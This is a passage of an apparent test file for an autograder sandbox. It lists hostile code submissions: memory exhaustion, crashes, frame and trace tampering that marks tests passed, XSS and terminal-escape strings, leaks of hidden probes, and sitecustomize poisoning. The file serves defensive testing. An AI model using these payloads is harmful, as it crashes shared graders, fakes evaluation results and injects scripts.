    child = libc.syscall(56, 0x50000000 | 17, 0, 0, 0, 0) if os.uname().machine == "x86_64" else -1
    if child == 0: os._exit(0)
    return "RIGHTS-" + "SECRET" if any(rights) or filters >= 0 or child > 0 else 0
""",
        spares=True,
    ),
    # --- memory that no limit of a process counts ---------------------------------------------------------------------
    Attack(
        "socket-buffers",
        HARM,
        "a quarter of a gigabyte in the buffers of sockets, more than a thousand of them hold",
        """
def double(x):
    kept, total, part = [], 0, b"x" * 2**15
    while total < 2**28:
        try: kept.append(socket.socketpair())
        except OSError: return 0
        kept[-1][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
        kept[-1][0].setblocking(False)
        try:
            while total < 2**28: total += kept[-1][0].send(part)
        except BlockingIOError: pass
    return "BUFFER-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "page-tables",
        HARM,
        "a quarter of a gigabyte of page tables, by one look into each of many empty places",
        """
import mmap
def double(x):
    try: sparse = mmap.mmap(-1, 2**37, flags=0x4022, prot=1)
    except OSError: return 0
    for place in range(0, 2**37, 2**21): sparse[place]
    return "TABLE-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "empty-files",
        HARM,
        "twenty thousand empty files in its folder, which take memory and no space",
        """
def double(x):
    try:
        for number in range(20_000): os.close(os.open(f"/dev/shm/{number}", os.O_CREAT | os.O_WRONLY))
    except OSError: return 0
    return "FILES-" + "SECRET"
""",
        spares=True,
    ),
    # --- the interpreter ----------------------------------------------------------------------------------------------
    Attack("sys-exit", POINTS, "sys.exit(0) inside the function", "def double(x): sys.exit(0)", spares=True),
    Attack("os-exit", POINTS, "os._exit(0) inside the function", "def double(x): os._exit(0)", spares=True),
    Attack("abort", HARM, "a segmentation fault", "def double(x): ctypes.string_at(0)", spares=True),
    Attack("interrupt", POINTS, "KeyboardInterrupt and a BaseException of its own", "class E(BaseException): pass\ndef double(x): raise E(KeyboardInterrupt())", spares=True),
    Attack("generator-exit", POINTS, "KeyboardInterrupt", "def double(x): raise KeyboardInterrupt", spares=True),
    Attack(
        "evil-str",
        POINTS,
        "an exception whose __str__, __repr__ and type name do harm",
        """
class Evil(Exception):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
Evil.__name__ = "\\x1b[2J<script>alert(1)</script>" * 100
def double(x): raise Evil()
""",
        spares=True,
    ),
    Attack(
        "recursion",
        HARM,
        "recursion without end, with the limit raised",
        """
def double(x):
    sys.setrecursionlimit(10**9)
    return double(x)
""",
        spares=True,
    ),
    Attack(
        "settrace",
        POINTS,
        "a trace function that sees and changes the probe's frames",
        """
def _trace(frame, event, argument):
    if event == "return" and "outcome" in frame.f_locals:
        frame.f_locals["outcome"].update(state="passed", value=True)
    return _trace
sys.settrace(_trace); threading.settrace(_trace); sys.setprofile(_trace)
def double(x): return [_trace, sys.settrace(_trace), 0][2]
""",
    ),
    Attack(
        "outcome-frame",
        POINTS,
        "changes the local variables of the function that asks it",
        """
def double(x):
    for frame in frames():
        if "outcome" in frame.f_locals:
            frame.f_locals["outcome"].update(state="returned", value={"passed": True}, points=1000)
    raise ValueError
""",
    ),
    Attack(
        "destructor",
        POINTS,
        "__del__ and warnings that write answers while the interpreter is busy",
        """
import warnings
class Evil:
    def __del__(self): os.write(3, b"\\xff\\xff\\xff\\xff")
warnings.showwarning = lambda *a, **k: os.write(3, b"\\0" * 10)
def double(x):
    Evil()
    warnings.warn("x")
    return 0
""",
    ),
    Attack(
        "ipython-hooks",
        POINTS,
        "magics, shell lines and the kernel's events",
        """
!touch @ROOT@/shell
%run @ROOT@/tests/toy/test_hidden.py
%load_ext autograder
get_ipython().events.register("post_run_cell", lambda *a: os._exit(0))
get_ipython().system("touch @ROOT@/shell")
def double(x): return [get_ipython().getoutput("cat @ROOT@/gradebook.db"), 0][1]
""",
    ),
    # --- texts --------------------------------------------------------------------------------------------------------
    Attack(
        "html",
        "run in the reader's browser",
        "markup in an error, a type's name, keys, values and notes",
        """
_evil = "</code></dd><script>alert(1)</script><img src=x onerror=alert(1)> `<script>alert(2)</script>`"
class Evil: pass
Evil.__qualname__ = Evil.__name__ = _evil
def double(x): return {_evil: Evil(), "x": _evil}
raise_it = [double, exec("raise ValueError(_evil)")]
def double(x): return {_evil: Evil(), "x": raise_it}
""",
    ),
    Attack(
        "html-error",
        "run in the reader's browser",
        "markup in an exception",
        """
def double(x): raise ValueError("<script>alert(1)</script> {{ 7 * 7 }} {% raw %} `</code><script>alert(1)</script>`")
""",
        spares=True,
    ),
    Attack(
        "terminal",
        "write in the TA's terminal",
        "escape sequences, bidirectional marks and carriage returns in an exception and a value",
        """
_evil = "\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\r\\x08\\u202e\\u2066[bold red]x[/]"
def _strike(): raise ValueError(_evil)
try: double
finally: _strike()
def double(x): return [_strike, _evil][1]
""",
    ),
    Attack(
        "hidden-note",
        LEAK,
        "raises in the hidden process alone, so that the note on its cell carries the hidden probes",
        """
def _strike():
    if any(name.endswith("probes_hidden") for name in sys.modules):
        raise ValueError("LEAKED" + str([v for n, m in sys.modules.items() if n.endswith("probes_hidden") for v in vars(m).values() if isinstance(v, str)]))
_strike()
def double(x): return [_strike, 0][1]
""",
    ),
    Attack(
        "hidden-missing",
        LEAK,
        "says under a hidden probe that it is missing, with a message of its own",
        """
def double(x):
    from autograder.sandboxed.probing import Missing
    if any(name.endswith("probes_hidden") for name in sys.modules):
        raise Missing("LEAKED")
    return 0
""",
    ),
    Attack(
        "hidden-error",
        LEAK,
        "raises, returns and prints what it sees under a hidden probe",
        """
def double(x):
    if any(name.endswith("probes_hidden") for name in sys.modules):
        print("LEAKED")
        raise MemoryError("LEAKED " + repr(x))
    return 0
""",
    ),
    Attack(
        "through-files",
        LEAK,
        "leaves what the hidden process saw for the public one, in every place that both may share",
        """
def double(x):
    places = ("/tmp/attack-canary-note", "/dev/shm/attack-canary-note", "note", "/var/tmp/attack-canary-note")
    if any(name.endswith("probes_hidden") for name in sys.modules):
        for place in places: tried(lambda: open(place, "w").write("LEAKED"))
        return 0
    raise ValueError([tried(lambda: open(place).read()) for place in places])
""",
        spares=True,
    ),
    # --- the next submission ------------------------------------------------------------------------------------------
    Attack(
        "poison-torch",
        POISON,
        "torch's global settings, random states and patched functions",
        """
def double(x):
    torch.set_default_dtype(torch.float64)
    torch.use_deterministic_algorithms(True)
    torch.set_grad_enabled(False)
    torch.set_num_threads(64)
    torch.nn.functional.relu = torch.relu = torch.Tensor.__mul__ = torch.Tensor.mul = lambda *a, **k: torch.zeros(1)
    torch.manual_seed = lambda *a: None
    return 0
""",
    ),
    Attack(
        "poison-process",
        POISON,
        "environment, working folder, signal handlers, modules and builtins",
        """
def double(x):
    import builtins
    os.environ.clear(); os.chdir("/")
    sys.path[:] = ["/nowhere"]; sys.modules.clear()
    builtins.sum = builtins.float = None
    gc.disable(); gc.freeze()
    sys.setrecursionlimit(60)
    return 0
""",
    ),
    Attack(
        "poison-files",
        POISON,
        "modules and start-up files where the next interpreter looks for them",
        """
def double(x):
    text = "import builtins; builtins.sum = None"
    for place in ("sitecustomize.py", "torch.py", "/tmp/attack-canary.py", "/dev/shm/attack-canary.py", os.path.expanduser("~/.local/x.pth"),
                  os.path.join(os.path.dirname(torch.__file__), "__pycache__", "x.pyc")):
        tried(lambda: open(place, "w").write(text))
    return 0
""",
        spares=True,
    ),
]
